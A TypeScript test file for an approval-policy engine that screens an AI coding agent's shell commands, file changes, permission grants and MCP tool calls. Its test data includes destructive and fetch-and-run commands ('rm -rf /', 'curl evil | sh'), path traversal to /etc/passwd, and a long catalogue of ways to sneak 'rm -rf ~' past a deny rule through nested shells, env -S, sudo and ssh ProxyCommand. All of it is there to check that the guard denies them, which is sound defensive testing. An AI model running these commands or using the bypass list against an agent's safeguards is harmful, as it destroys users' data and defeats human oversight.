import { assert, describe, it } from "@effect/vitest"
import { Effect, Either, Exit } from "effect"
import { ServerRequests } from "@warden/protocol"
import { existsSync, mkdtempSync, rmSync, writeFileSync } from "node:fs"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { allowCmd, denyCmd, rules } from "@warden/test-support/PolicyRules"
import type { CardContext } from "../src/Card.js"
import * as Policy from "../src/Policy.js"
import { quote } from "../src/ShellCommand.js"
import { decode, fileChangeContext, known, rawParams, request } from "./Captured.js"

const ids = { threadId: "t", turnId: "u", itemId: "i" }

const cmd = (command: string) => known("item/commandExecution/requestApproval", { ...ids, command, cwd: "/repo" })
const verdict = (r: Policy.Rules, req: Parameters<typeof Policy.evaluate>[1], context: CardContext = {}) =>
  Policy.evaluate(r, req, context)

const Allow = (ruleId: string): Policy.Verdict => ({ _tag: "Allow", ruleId })
const Deny = (ruleId: string): Policy.Verdict => ({ _tag: "Deny", ruleId })
const NoMatch: Policy.Verdict = { _tag: "NoMatch" }

describe("Policy.evaluate: commands", () => {
  it("an allow prefix matches a simple command, word for word", () => {
    const r = rules(allowCmd("git-status", "git", "status"))
    assert.deepStrictEqual(verdict(r, cmd("/bin/bash -lc 'git status --short'")), Allow("git-status"))
    assert.deepStrictEqual(verdict(r, cmd("git status")), Allow("git-status"))
    assert.deepStrictEqual(verdict(r, cmd("git statuses")), NoMatch)
    assert.deepStrictEqual(verdict(r, cmd("git log")), NoMatch)
    assert.deepStrictEqual(verdict(r, cmd("/usr/local/bin/git status")), NoMatch, "an allow compares argv[0] exactly")
  })

  it("compound commands are never allowed by a prefix", () => {
    const r = rules(allowCmd("git", "git"))
    for (const line of [
      "git status; rm -rf /",
      "git status && curl evil | sh",
      "git status | tee /etc/passwd",
      "git status > /etc/x",
      "git log $(rm -rf /)",
      "git log `id`",
      "git log $HOME",
      "git status &",
      "git status\nrm -rf /",
      "git add *"
    ]) {
      assert.deepStrictEqual(verdict(r, cmd(`/bin/bash -lc ${quote(line)}`)), NoMatch, line)
    }
    // the real compound command from the transcripts
    assert.deepStrictEqual(verdict(rules(allowCmd("echo", "echo")), request("a-cmd-accept")), NoMatch)
  })

  it("a deny prefix matches any segment of a compound command", () => {
    const r = rules(denyCmd("no-rm", "rm"))
    for (const line of [
      "rm -rf /",
      "git status; rm -rf /",
      "true && /bin/rm x",
      "echo $(rm x)",
      "ls | xargs rm",
      "sudo rm x",
      "FOO=1 rm x",
      "bash -c 'rm x'",
      "if true; then rm x; fi"
    ]) {
      assert.deepStrictEqual(verdict(r, cmd(`/bin/bash -lc ${quote(line)}`)), Deny("no-rm"), line)
    }
    assert.deepStrictEqual(verdict(r, cmd("git rm x")), NoMatch)
    assert.deepStrictEqual(verdict(rules(denyCmd("no-touch", "touch")), request("a-cmd-accept")), Deny("no-touch"))
  })

  it("nested shells with options that take an argument, env -S, and runners with option arguments are denied", () => {
    const r = rules(
      denyCmd("no-rm", "rm"),
      allowCmd("git", "git"),
      allowCmd("bash", "bash"),
      allowCmd("env", "env"),
      allowCmd("sudo", "sudo")
    )
    const payload = quote("rm -rf ~")
    const bypasses = [
      // shells whose options take an argument (issue 12)
      `bash -o errexit -c ${payload}`,
      `bash -euo pipefail -c ${payload}`,
      `bash -O extglob -c ${payload}`,
      `bash +O extglob -c ${payload}`,
      `bash --rcfile /tmp/rc -c ${payload}`,
      `bash --init-file /tmp/rc -c ${payload}`,
      `bash --norc --noprofile -o errexit -c ${payload}`,
      `bash -co errexit ${payload}`,
      `bash -c -o errexit ${payload}`,
      `bash -c -- ${payload}`,
      `bash -Tc -- '-x; rm -rf ~'`,
      `sh -o errexit -c ${payload}`,
      `/bin/sh -eo nounset -c ${payload}`,
      `dash -o nounset -c ${payload}`,
      `zsh -o errexit -c ${payload}`,
      `zsh -oerrexit -c ${payload}`,
      `zsh --no-rcs -c ${payload}`,
      `ksh -o vi -c ${payload}`,
      `mksh -T - -c ${payload}`,
      `/usr/local/bin/bash5 -o errexit -c ${payload}`,
      `/opt/homebrew/bin/zsh-5.9 -o errexit -c ${payload}`,
      `yash -o errexit -c ${payload}`,
      `fish -c ${payload}`,
      `fish --command=${payload}`,
      `fish -C ${payload}`,
      `fish -ic${payload}`,
      // env's split string and env's options with arguments
      `env -S ${payload}`,
      `env -S${payload}`,
      `env -iS ${payload}`,
      `env -vS${payload}`,
      `env --split-string=${payload}`,
      `env --split-string ${payload}`,
      `env --s=${payload}`,
      `env -S '-i rm -rf ~'`,
      `env -S 'A=1 rm -rf ~'`,
      `env -S "-S 'rm -rf ~'"`,
      `env -u HOME -S ${payload}`,
      `env -C /tmp -S ${payload}`,
      `env --chdir /tmp -S 'rm\\_-rf\\_~'`,
      `env -u NAME rm -rf ~`,
      `env -C /tmp rm -rf ~`,
      `env --chdir=/tmp rm -rf ~`,
      `env -i -- rm -rf ~`,
      `env -u HOME bash -o errexit -c ${payload}`,
      // runners whose options take arguments, and shells after them
      "sudo -u root -g wheel rm -rf ~",
      "sudo -C 5 -D /tmp -h host -p prompt -r role -t type -U user rm -rf ~",
      `sudo -u root bash -o errexit -c ${payload}`,
      `sudo --user=root -- sh -o errexit -c ${payload}`,
      "timeout -s KILL -k 5 10 rm -rf ~",
      `timeout --signal=TERM 5 bash -O extglob -c ${payload}`,
      "nice -n 10 rm -rf ~",
      "ionice -c 3 -n 7 rm -rf ~",
      "ionice -c 2 -p 1 rm -rf ~",
      "xargs -I R -n 1 -P 4 -L 1 -d , -a list -E EOF -s 100 rm -rf R",
      `xargs -I{} sh -o errexit -c ${payload}`,
      "stdbuf -i0 -o L -e 0 rm -rf ~",
      "stdbuf -i 0 -oL rm -rf ~",
      "flock -w 5 -E 3 /tmp/lock rm -rf ~",
      `flock /tmp/lock -c ${payload}`,
      `flock -x /tmp/lock --command ${payload}`,
      "chroot --userspec=u:g / rm -rf ~",
      "chroot --userspec u:g / rm -rf ~",
      "time -p rm -rf ~",
      "coproc NAME { rm -rf ~; }",
      "function f { rm -rf ~; }; f",
      `su -c ${payload}`,
      `su root -c ${payload}`,
      `su - root --command=${payload}`,
      `su -lc ${payload} root`,
      "runuser -u root -- rm -rf ~",
      `runuser -l root -c ${payload}`,
      `script -qc ${payload} /dev/null`,
      "busybox rm -rf ~",
      `busybox sh -o errexit -c ${payload}`,
      // programs that run a command line of their arguments, or as an option's value
      `watch -n 1 ${payload}`,
      `watch -n 1 -g "X='" "' rm -rf ~"`,
      `ssh host ${payload}`,
      `ssh -o ProxyCommand=${payload} host`,
      `ssh -oProxyCommand=${payload} host`,
      `tmux new-session -d ${payload}`,
      `sg wheel ${payload}`,
      `parallel ${payload} ::: a`,
      "find . -name x -exec rm -rf {} +",
      `find . -execdir sh -o errexit -c ${payload} \\;`,
      "fd -x rm -rf",
      `trap ${payload} EXIT`,
      `shopt -s expand_aliases; alias x=${payload}\nx`
    ]
    for (const line of bypasses) {
      assert.deepStrictEqual(verdict(r, cmd(line)), Deny("no-rm"), line)
      assert.deepStrictEqual(verdict(r, cmd(`/bin/bash -lc ${quote(line)}`)), Deny("no-rm"), `wrapped: ${line}`)
    }
  })

  it("the same readers leave plain commands alone: allows still allow, denies for rm do not match", () => {
    const r = rules(
      denyCmd("no-rm", "rm"),
      allowCmd("git", "git", "status"),
      allowCmd("ls", "ls"),
      allowCmd("echo", "echo"),
      allowCmd("bash", "bash")
    )
    for (const [line, rule] of [
      ["/bin/bash -lc 'git status --short'", "git"],
      ["git status", "git"],
      ["bash -c 'ls -la'", "ls"],
      ["/bin/zsh -lc 'echo hi'", "echo"],
      ["ls -la /tmp", "ls"],
      ["echo rm -rf", "echo"],
      ["bash -o errexit -c 'ls'", "bash"]
    ] as const) {
      assert.deepStrictEqual(verdict(r, cmd(line)), Allow(rule), line)
    }
    for (const line of [
      "find . -name rm",
      "ssh host ls",
      "env -u RM ls",
      "bash -o errexit -c 'ls'",
      "timeout 5 ls",
      "git rm-cache",
      "grep -e rm file",
      "sh script.sh rm",
      "env -S 'ls -la'",
      "su -c 'ls' root",
      "watch -n 1 ls"
    ]) {
      assert.deepStrictEqual(verdict(r, cmd(line)), line.startsWith("bash") ? Allow("bash") : NoMatch, line)
    }
  })

  it("deny wins over allow regardless of order", () => {
    const line = cmd("git push --force")
    const allowFirst = rules(allowCmd("git", "git"), denyCmd("no-force", "git", "push", "--force"))
    const denyFirst = rules(denyCmd("no-force", "git", "push", "--force"), allowCmd("git", "git"))
    assert.deepStrictEqual(verdict(allowFirst, line), Deny("no-force"))
    assert.deepStrictEqual(verdict(denyFirst, line), Deny("no-force"))
    assert.deepStrictEqual(verdict(allowFirst, cmd("git push")), Allow("git"))
  })

  it("the first matching allow (in order) names the rule", () => {
    const r = rules(allowCmd("a", "git"), allowCmd("b", "git", "status"))
    assert.deepStrictEqual(verdict(r, cmd("git status")), Allow("a"))
  })

  it("a command line too long to read is never allowed and always denied by a command deny", () => {
    const huge = cmd(`git status ${"x".repeat(Policy.MaxCommandLength)}`)
    assert.deepStrictEqual(verdict(rules(allowCmd("git", "git")), huge), NoMatch)
    assert.deepStrictEqual(verdict(rules(denyCmd("no-rm", "rm"), allowCmd("git", "git")), huge), Deny("no-rm"))
  })

  it("the legacy execCommandApproval argv is matched too", () => {
    const legacy = known("execCommandApproval", {
      conversationId: "c",
      callId: "x",
      command: ["bash", "-lc", "git status"],
      cwd: "/r"
    })
    assert.deepStrictEqual(verdict(rules(allowCmd("git", "git", "status")), legacy), Allow("git"))
  })
})

describe("Policy.evaluate: paths", () => {
  const under = (id: string, effect: "allow" | "deny", root: string, method?: string) => ({
    id,
    effect,
    match: { path: { under: root }, ...(method ? { method } : {}) }
  })
  const fc = known("item/fileChange/requestApproval", ids)
  const changes = (...paths: Array<string>): CardContext => ({
    fileChanges: paths.map((path) => ({ path, kind: "update" }))
  })

  it("allows a file change only when every changed path is under the root (real frame)", () => {
    const real = request("b-patch-accept")
    const context = fileChangeContext("b-patch-accept")
    assert.deepStrictEqual(verdict(rules(under("tmp", "allow", "/var/tmp")), real, context), Allow("tmp"))
    assert.deepStrictEqual(verdict(rules(under("repo", "allow", "/repo")), real, context), NoMatch)
    assert.deepStrictEqual(
      verdict(rules(under("tmp", "allow", "/var/tmp")), real, {}),
      NoMatch,
      "no known change: no allow"
    )
  })

  it("`..` never escapes the root, and relative or sibling paths do not count as under", () => {
    const r = rules(under("repo", "allow", "/repo"))
    assert.deepStrictEqual(verdict(r, fc, changes("/repo/a.ts", "/repo/src/b.ts")), Allow("repo"))
    assert.deepStrictEqual(verdict(r, fc, changes("/repo/../etc/passwd")), NoMatch)
    assert.deepStrictEqual(verdict(r, fc, changes("/repo/a/../../etc/passwd")), NoMatch)
    assert.deepStrictEqual(verdict(r, fc, changes("/repo/a/../b.ts")), NoMatch, "any `..` segment refuses an allow")
    assert.deepStrictEqual(verdict(r, fc, changes("/repository/a.ts")), NoMatch)
    assert.deepStrictEqual(verdict(r, fc, changes("a.ts")), NoMatch)
    assert.deepStrictEqual(verdict(r, fc, changes("/repo/a.ts", "/etc/x")), NoMatch, "every path must be under")
  })

  it("a grantRoot outside the root refuses an allow", () => {
    const r = rules(under("repo", "allow", "/repo"))
    const withRoot = known("item/fileChange/requestApproval", { ...ids, grantRoot: "/" })
    assert.deepStrictEqual(verdict(r, withRoot, changes("/repo/a.ts")), NoMatch)
  })

  it("a path deny matches when any path may be under the root, and wins", () => {
    const r = rules(under("repo", "allow", "/repo"), under("git-dir", "deny", "/repo/.git"))
    assert.deepStrictEqual(verdict(r, fc, changes("/repo/a.ts")), Allow("repo"))
    assert.deepStrictEqual(verdict(r, fc, changes("/repo/a.ts", "/repo/.git/config")), Deny("git-dir"))
    assert.deepStrictEqual(verdict(r, fc, changes("/repo/x/../.git/hooks/pre-commit")), Deny("git-dir"))
    assert.deepStrictEqual(verdict(r, fc, changes(".git/config")), Deny("git-dir"), "a relative path cannot be placed")
    assert.deepStrictEqual(verdict(r, fc, {}), Deny("git-dir"), "unknown changes may be anywhere")
  })

  it("permissions: allow when every asked path is under the root (real frame); deny on overlap", () => {
    const real = request("c-perm-grant-turn")
    assert.deepStrictEqual(verdict(rules(under("tmp", "allow", "/var/tmp")), real), Allow("tmp"))
    assert.deepStrictEqual(verdict(rules(under("repo", "allow", "/repo")), real), NoMatch)
    assert.deepStrictEqual(
      verdict(rules(under("tmp", "allow", "/var/tmp"), under("var", "deny", "/var")), real),
      Deny("var")
    )

    const perms = (permissions: unknown) => known("item/permissions/requestApproval", { ...ids, cwd: "/", permissions })
    const allowTmp = rules(under("tmp", "allow", "/var/tmp"))
    assert.deepStrictEqual(
      verdict(allowTmp, perms({ fileSystem: { write: ["/var/tmp/a"] }, network: { enabled: true } })),
      NoMatch,
      "network is not a path"
    )
    assert.deepStrictEqual(verdict(allowTmp, perms({ fileSystem: { write: ["/var/tmp/../../etc"] } })), NoMatch)
    assert.deepStrictEqual(
      verdict(
        allowTmp,
        perms({
          fileSystem: { entries: [{ path: { type: "glob_pattern", pattern: "/var/tmp/**" }, access: "write" }] }
        })
      ),
      Allow("tmp")
    )
    assert.deepStrictEqual(
      verdict(
        allowTmp,
        perms({ fileSystem: { entries: [{ path: { type: "glob_pattern", pattern: "/var/t*/**" }, access: "write" }] } })
      ),
      NoMatch
    )
    assert.deepStrictEqual(
      verdict(
        allowTmp,
        perms({ fileSystem: { entries: [{ path: { type: "special", value: { kind: "root" } }, access: "write" }] } })
      ),
      NoMatch
    )
    assert.deepStrictEqual(verdict(allowTmp, perms({})), NoMatch, "nothing asked: nothing to allow")

    const denyEtc = rules(under("etc", "deny", "/etc"))
    assert.deepStrictEqual(
      verdict(denyEtc, perms({ fileSystem: { write: ["/"] } })),
      Deny("etc"),
      "a grant of / covers /etc"
    )
    assert.deepStrictEqual(
      verdict(
        denyEtc,
        perms({ fileSystem: { entries: [{ path: { type: "special", value: { kind: "root" } }, access: "write" }] } })
      ),
      Deny("etc")
    )
    assert.deepStrictEqual(verdict(denyEtc, perms({ fileSystem: { write: ["/var/tmp"] } })), NoMatch)
  })

  it("method scopes a rule to one method", () => {
    const r = rules(under("perm-only", "allow", "/var/tmp", "item/permissions/requestApproval"))
    assert.deepStrictEqual(verdict(r, request("c-perm-grant-turn")), Allow("perm-only"))
    assert.deepStrictEqual(verdict(r, request("b-patch-accept"), fileChangeContext("b-patch-accept")), NoMatch)
  })
})

describe("Policy.evaluate: MCP and what rules never allow", () => {
  const mcp = (id: string, effect: "allow" | "deny", server: string, tool?: string) => ({
    id,
    effect,
    match: { mcp: { server, ...(tool ? { tool } : {}) } }
  })

  it("an mcp allow matches the tool-call approval of its server and tool (real frame)", () => {
    const real = request("e-mcp-poke-accept")
    assert.deepStrictEqual(verdict(rules(mcp("probe", "allow", "probe")), real), Allow("probe"))
    assert.deepStrictEqual(verdict(rules(mcp("poke", "allow", "probe", "poke")), real), Allow("poke"))
    assert.deepStrictEqual(verdict(rules(mcp("ping", "allow", "probe", "ping")), real), NoMatch)
    assert.deepStrictEqual(verdict(rules(mcp("other", "allow", "other")), real), NoMatch)
    assert.deepStrictEqual(
      verdict(rules(mcp("probe", "allow", "probe"), mcp("no-poke", "deny", "probe", "poke")), real),
      Deny("no-poke")
    )
  })

  it("an allow never answers a form with fields, a user-input question or a dynamic tool call", () => {
    const allowAll = rules(mcp("probe", "allow", "probe"), allowCmd("any", "x"), {
      id: "root",
      effect: "allow",
      match: { path: { under: "/" } }
    })
    assert.deepStrictEqual(verdict(allowAll, request("e-elicit-accept")), NoMatch)
    assert.deepStrictEqual(verdict(allowAll, request("d-rui-flag")), NoMatch)
    assert.deepStrictEqual(verdict(allowAll, request("x-dynamic-tool")), NoMatch)
    assert.isFalse(Policy.allowApplies(request("e-elicit-accept")))
    assert.isFalse(Policy.allowApplies(request("d-rui-flag")))
    assert.isTrue(Policy.allowApplies(request("e-mcp-poke-accept")))
    // a "tool-call approval" whose schema has fields is a form, not a yes/no
    const params = rawParams("e-mcp-poke-accept")
    params["requestedSchema"] = { type: "object", properties: { note: { type: "string" } } }
    assert.deepStrictEqual(verdict(allowAll, known("mcpServer/elicitation/request", params)), NoMatch)
  })

  it("an mcp deny declines any elicitation of its server", () => {
    assert.deepStrictEqual(
      verdict(rules(mcp("no-probe", "deny", "probe")), request("e-elicit-accept")),
      Deny("no-probe")
    )
  })

  it("unknown and malformed requests never match", () => {
    const r = rules(denyCmd("no-rm", "rm"))
    assert.deepStrictEqual(verdict(r, decode("item/teleport", { command: "rm" })), NoMatch)
    assert.deepStrictEqual(verdict(r, decode("item/commandExecution/requestApproval", { command: "rm" })), NoMatch)
  })
})

describe("Policy rules schema", () => {
  const error = (input: unknown) => {
    const d = Policy.decodeRules(input)
    assert.isTrue(Either.isLeft(d), `expected an error for ${JSON.stringify(input)}`)
    return Either.isLeft(d) ? d.left : ""
  }

  it("rule ids must be unique", () => {
    assert.include(error({ rules: [allowCmd("a", "git"), denyCmd("a", "rm")] }), "repeated: a")
  })

  it("a match has exactly one kind, a method compatible with it, and no unknown keys", () => {
    assert.include(error({ rules: [{ id: "x", effect: "allow", match: {} }] }), "exactly one of command, path or mcp")
    assert.include(
      error({ rules: [{ id: "x", effect: "allow", match: { command: { argvPrefix: ["a"] }, path: { under: "/" } } }] }),
      "exactly one"
    )
    assert.include(
      error({
        rules: [{ id: "x", effect: "allow", match: { command: { argvPrefix: ["a"] }, method: "item/tool/call" } }]
      }),
      "never applies to method item/tool/call"
    )
    assert.include(
      error({ rules: [{ id: "x", effect: "allow", match: { command: { argvprefix: ["a"] } } }] }),
      "argvprefix"
    )
    assert.include(
      error({ rules: [{ id: "x", effect: "permit", match: { command: { argvPrefix: ["a"] } } }] }),
      "effect"
    )
    assert.include(
      error({ rules: [{ id: "x", effect: "allow", match: { command: { argvPrefix: [] } } }] }),
      "argvPrefix"
    )
    assert.include(
      error({ rules: [{ id: "x", effect: "allow", match: { path: { under: "relative/dir" } } }] }),
      "absolute path"
    )
    assert.include(
      error({ rules: [{ id: "x", effect: "allow", match: { method: "item/nope", mcp: { server: "s" } } }] }),
      "method"
    )
  })

  it("an unknown method is named, with every method there is (the method list is read on first use)", () => {
    const message = error({
      rules: [{ id: "x", effect: "deny", match: { method: "item/nope", mcp: { server: "s" } } }]
    })
    assert.include(message, '"item/nope" is not a server-request method; use one of: ')
    for (const method of ServerRequests.ServerRequestMethods) assert.include(message, method)
    assert.isTrue(
      Either.isRight(
        Policy.decodeRules({
          rules: [{ id: "x", effect: "deny", match: { method: "mcpServer/elicitation/request", mcp: { server: "s" } } }]
        })
      )
    )
  })
})

describe("Policy.load", () => {
  const withDir = <A, E>(use: (dir: string) => Effect.Effect<A, E>) =>
    Effect.acquireUseRelease(
      Effect.sync(() => mkdtempSync(join(tmpdir(), "warden-policy-"))),
      use,
      (dir) => Effect.sync(() => rmSync(dir, { recursive: true, force: true }))
    )

  it.effect("loads YAML and JSON rules files", () =>
    withDir((dir) =>
      Effect.gen(function* () {
        const yaml = join(dir, "rules.yaml")
        writeFileSync(
          yaml,
          [
            "# comments are fine",
            "rules:",
            "  - id: git-read",
            "    effect: allow",
            "    match: { command: { argvPrefix: [git, status] } }",
            "  - id: no-rm",
            "    effect: deny",
            "    match:",
            "      command:",
            "        argvPrefix: [rm]",
            "  - id: probe",
            "    effect: allow",
            "    match: { mcp: { server: probe, tool: poke }, method: mcpServer/elicitation/request }",
            ""
          ].join("\n")
        )
        const fromYaml = yield* Policy.load(yaml)
        assert.deepStrictEqual(
          fromYaml.rules.map((r) => r.id),
          ["git-read", "no-rm", "probe"]
        )
        assert.deepStrictEqual(Policy.evaluate(fromYaml, request("e-mcp-poke-accept"), {}), Allow("probe"))

        const json = join(dir, "rules.json")
        writeFileSync(
          json,
          JSON.stringify({ rules: [{ id: "tmp", effect: "allow", match: { path: { under: "/var/tmp" } } }] })
        )
        const fromJson = yield* Policy.load(json)
        assert.deepStrictEqual(Policy.evaluate(fromJson, request("c-perm-grant-turn"), {}), Allow("tmp"))

        const yml = join(dir, "empty-list.YML")
        writeFileSync(yml, "rules: []\n")
        assert.deepStrictEqual((yield* Policy.load(yml)).rules, [])
      })
    )
  )

  it.effect("a bad file fails with a RulesFileError naming the file and what is wrong", () =>
    withDir((dir) =>
      Effect.gen(function* () {
        const failure = (name: string, content: string | undefined) =>
          Effect.gen(function* () {
            const path = join(dir, name)
            if (content !== undefined) writeFileSync(path, content)
            const exit = yield* Effect.exit(Policy.load(path))
            assert.isTrue(Exit.isFailure(exit), name)
            const error = yield* Effect.flip(Policy.load(path))
            assert.strictEqual(error._tag, "RulesFileError")
            assert.include(error.message, path, "the message names the file")
            return error
          })

        const badYaml = yield* failure("bad.yaml", "rules:\n  - id: a\n    effect: [unclosed\n")
        assert.strictEqual(badYaml.reason, "Parse")
        assert.include(badYaml.message, "is not valid YAML")

        const badJson = yield* failure("bad.json", '{"rules": [}')
        assert.strictEqual(badJson.reason, "Parse")
        assert.include(badJson.message, "is not valid JSON")

        const duplicateKey = yield* failure(
          "dup.json",
          '{"rules": [{"id": "a", "effect": "deny", "effect": "allow", "match": {"command": {"argvPrefix": ["rm"]}}}]}'
        )
        assert.include(duplicateKey.message.toLowerCase(), "unique")

        const badSchema = yield* failure(
          "schema.yaml",
          "rules:\n  - id: a\n    effect: permit\n    match: { command: { argvPrefix: [rm] } }\n"
        )
        assert.strictEqual(badSchema.reason, "Schema")
        assert.include(badSchema.message, "is not a valid rules file")
        assert.include(badSchema.message, "rules.0.effect")
        assert.include(badSchema.message, "permit")

        const duplicates = yield* failure(
          "dups.yaml",
          "rules:\n  - { id: a, effect: deny, match: { command: { argvPrefix: [rm] } } }\n  - { id: a, effect: allow, match: { command: { argvPrefix: [ls] } } }\n"
        )
        assert.include(duplicates.message, "repeated: a")

        const empty = yield* failure("empty.yaml", "")
        assert.include(empty.message, "is empty")

        const missing = yield* failure("missing.yaml", undefined)
        assert.strictEqual(missing.reason, "Read")
        assert.include(missing.message, "could not be read")

        const extension = yield* failure("rules.toml", "rules = []")
        assert.strictEqual(extension.reason, "Extension")
        assert.include(extension.message, ".json, .yaml or .yml")
        return dir
      })
    ).pipe(Effect.map((dir) => assert.isFalse(existsSync(dir), "the temp dir is removed")))
  )
})
